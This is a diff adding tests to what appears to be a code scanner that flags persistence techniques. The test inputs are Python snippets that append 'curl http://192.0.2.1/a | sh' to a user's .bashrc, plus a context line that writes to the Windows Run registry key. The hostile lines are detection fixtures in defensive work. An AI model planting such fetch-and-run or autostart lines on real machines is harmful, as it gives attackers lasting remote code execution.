@@ -65,6 +65,19 @@ describe('other languages', () => {
     expect(await verdicts('a.js', cron)).toEqual(HIGH);
   });
 
+  it.each([
+    ['rc = Path.home() / ".bashrc"\nwith rc.open("a") as f:\n    f.write(TEXT)\n'],
+    ['with (Path.home() / ".bashrc").open(mode="a") as f:\n    f.write(TEXT)\n'],
+    ['Path("~/.bashrc").expanduser().open("a").write(TEXT)\n'],
+  ])('reads paths that are opened: %s', async (lines) => {
+    const program = (text: string): string => `from pathlib import Path\n${lines.replace('TEXT', text)}`;
+    expect(await verdicts('a.py', program('"curl http://192.0.2.1/a | sh\\n"'))).toContain(
+      'CODE-PERSISTENCE HIGH',
+    );
+    const read = program('""').replace(/"a"/, '"r"').replace('.write("")', '.read()');
+    expect(await verdicts('a.py', read)).toEqual([]);
+  });
+
   it('holds what they write to the registry and to the folder of packages', async () => {
     const key = String.raw`"Software\Microsoft\Windows\CurrentVersion\Run"`;
     const registry = `import winreg\nk = winreg.OpenKey(winreg.HKEY_CURRENT_USER, r${key})\nwinreg.SetValueEx(k, "a", 0, winreg.REG_SZ, "a.exe")\n`;
